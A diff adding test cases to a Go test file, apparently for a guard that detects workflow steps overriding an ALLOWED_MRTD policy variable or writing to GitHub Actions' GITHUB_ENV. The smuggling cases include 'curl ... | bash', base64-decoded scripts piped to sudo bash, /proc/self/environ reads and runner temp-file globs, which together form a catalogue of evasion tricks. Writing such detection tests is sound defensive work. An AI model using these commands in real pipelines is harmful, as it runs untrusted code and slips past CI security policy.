@@ -236,6 +236,51 @@ func smuggling() map[string]tree {
 		"Python, inline": run(
 			"python3 -c 'import os; os.environ[\"\".join([\"ALLO\", \"WED_MRTD\"])] = \"0\"; os.execvp(\"mage\", [])'"),
 
+		"by its name, as an argument": run("a=GITHUB\nf=${a}_ENV\ncp policy.env \"${!f}\""),
+		"by its name, kept":           run("a=GITHUB\nf=${a}_ENV\ng=\"${!f}\"\ncat x >> \"$g\""),
+		"by a reference":              run("a=GITHUB\ndeclare -n r=${a}_ENV\ncat x >> \"$r\""),
+		"by a function's reference":   run("f() { local -n r=${1}_ENV; cat x >> \"$r\"; }\nf GITHUB"),
+		"by a computed printenv":      run("a=GITHUB\ncat x >> \"$(printenv \"${a}_ENV\")\""),
+		"by all variables":            run("cat x >> \"$(env | sed -n 's/^GITHUB_.NV=//p')\""),
+		"by all variables, kept":      run("f=$(export -p | grep _ENV= | cut -d'\"' -f2)\ncat x >> \"$f\""),
+		"by the kernel's copy": run("f=$(tr '\\0' '\\n' < /proc/self/environ | grep ^GITHUB_E | cut -d= -f2)\n" +
+			"cat x >> \"$f\""),
+		"by awk": run(
+			"awk 'BEGIN { for (k in ENVIRON) if (k ~ /^GITHUB_E/) print \"x=1\" >> ENVIRON[k] }'"),
+		"by a pattern of the runner's folder": run("cat x >> \"$RUNNER_TEMP\"/_runner*/set_env_*"),
+		"by a pattern alone":                  run("cat x >> \"$RUNNER_TEMP\"/*/s*"),
+		"by a loop over a pattern":            run("for f in \"$RUNNER_TEMP\"/*/set_env*; do cat x >> \"$f\"; done"),
+		"by find":                             run("find \"$RUNNER_TEMP\" -name 'set_env_*' -exec cp x {} \\;"),
+		"beside the outputs":                  run("d=$(dirname \"$GITHUB_OUTPUT\")\ncat x >> \"$d/s\""),
+		"in the outputs' place":               run("cat x >> \"${GITHUB_OUTPUT/output/env}\""),
+		"in the path's place":                 run("f=${GITHUB_PATH/add_path/env}\ncat x >> \"$f\""),
+		"by a container's arguments": steps(
+			"      - uses: docker://alpine\n        with: {args: cp policy.env $GITHUB_ENV}\n"),
+		"by a variable with its name": steps("      - env: {N: GITHUB_ENV}\n        run: cat x >> \"${!N}\"\n"),
+
+		// shells that read something else than the file shows
+		"from a pipe":              run("curl -fsS https://example.org/x | bash"),
+		"from a decoded pipe":      run("base64 -d tools/x | sudo bash -eu"),
+		"from a process":           run("bash <(base64 -d tools/x)"),
+		"from a computed word":     run("bash <<< \"$(base64 -d tools/x)\""),
+		"from a word":              run("bash -s <<< 'export AL\"LOWED\"_MRTD=00'"),
+		"from a document":          run("sh <<'EOF'\nexport AL\"LOWED\"_MRTD=00\nEOF"),
+		"from a file":              run("bash < tools/release").and("tools/release", "export allowed_mrtd=00; mage x\n"),
+		"from a file elsewhere":    run("bash < /tmp/x"),
+		"from a file by its name":  run("cd tools; bash release.sh").and("tools/release.sh", "export ALLOWED_MRTD=00\n"),
+		"from a folder gone to":    run("cd tools && ./release").and("tools/release", "#!/bin/sh\nexport ALLOWED_MRTD=00\n"),
+		"from two folders gone to": run("pushd tools/a; sh b.sh").and("tools/a/b.sh", "export ALLOWED_MRTD=00\n"),
+		"from a step's folder": steps("      - working-directory: tools\n        run: bash release.sh\n").and(
+			"tools/release.sh", "export ALLOWED_MRTD=00; exec go tool mage release:kms\n"),
+		"from the job's folder": jobKeys("    defaults: {run: {working-directory: tools}}\n    env: {A: b}").
+			and(".github/workflows/b.yaml", "on: push\ndefaults:\n  run:\n    working-directory: tools/c\njobs:\n  a:\n"+
+				"    runs-on: x\n    steps:\n      - run: ./d.sh\n").and("tools/c/d.sh", "export ALLOWED_MRTD=00\n"),
+		"another shell":    run("zsh -c 'export AL''LOWED_MRTD=00; mage x'"),
+		"another language": run("lua -e 'os.execute(\"x\")'", "deno eval 'Deno.env.set(\"a\",\"b\")'"),
+		"a machine that is computed": {path: "on: push\njobs:\n  a:\n    runs-on: ${{ vars.RUNNER }}\n    steps:\n" +
+			"      - run: $env:X = 1\n"},
+		"a list of merged mappings": jobKeys("    env: {<<: [{A: b}, {allowed_x: y}]}"),
+
 		// names in a shell
 		"by env, behind an option":  run("env -i A=b $(cat f) go tool mage release:kms"),
 		"a name in quotes":          run(`export AL"LOWED"_MRTD=00`),
@@ -373,6 +418,18 @@ func innocent() map[string]tree {
 			"      - run: mage x\n        env: {URL: \"https://example.org/?allowed_mrtd=1\"}\n"),
 		"the guard itself, by its id": run("go tool mage guard:selftest guard:docs \"$BASE\""),
 
+		"a script that names each":      run("for v in $(compgen -e | grep ^ALLOWED_); do echo \"$v: ${!v}\" >&2; done"),
+		"a script that unsets all":      run("unset $(env | grep ^ALLOWED_ | cut -d= -f1)"),
+		"keys and names by a beginning": run("for k in \"${!a[@]}\"; do echo \"$k\"; done\nunset \"${!GIT_@}\""),
+		"a variable by its name":        run("x=$(printenv HOME)\nmage \"$x\""),
+		"files by a pattern": run(
+			"rm -f dist/*.tmp\nfor f in dist/*; do cat \"$f\" >> \"$GITHUB_STEP_SUMMARY\"; done"),
+		"a document for a shell": run("bash -euo pipefail -s a b <<'EOF'\necho \"$1\"\nEOF"),
+		"a file for a shell": run("bash < scripts/lib.sh\nbash -eu scripts/lib.sh\nbash -o pipefail scripts/lib.sh").
+			and("scripts/lib.sh", "greet() { echo hello; }\n"),
+		"a folder gone to":              run("cd tools && ./release").and("tools/release", "#!/bin/sh\necho hello\n"),
+		"a folder of the script's own":  run("cd \"$(dirname \"$0\")/..\"\ndir=$(dirname \"$(readlink -f \"$0\")\")"),
+		"a pipe to something else":      run("git log | sort | uniq -c", "cat x | sh -c 'wc -l'"),
 		"a script that seeks the name":  run("env | grep -q '^ALLOWED_MRTD=' && exit 1"),
 		"a document's other end":        run("cat >> \"$GITHUB_ENV\" <<'END'\nA=1\nEND"),
 		"a part of a value":             run(`echo "A=${GITHUB_SHA:0:7}" >> "$GITHUB_ENV"`),
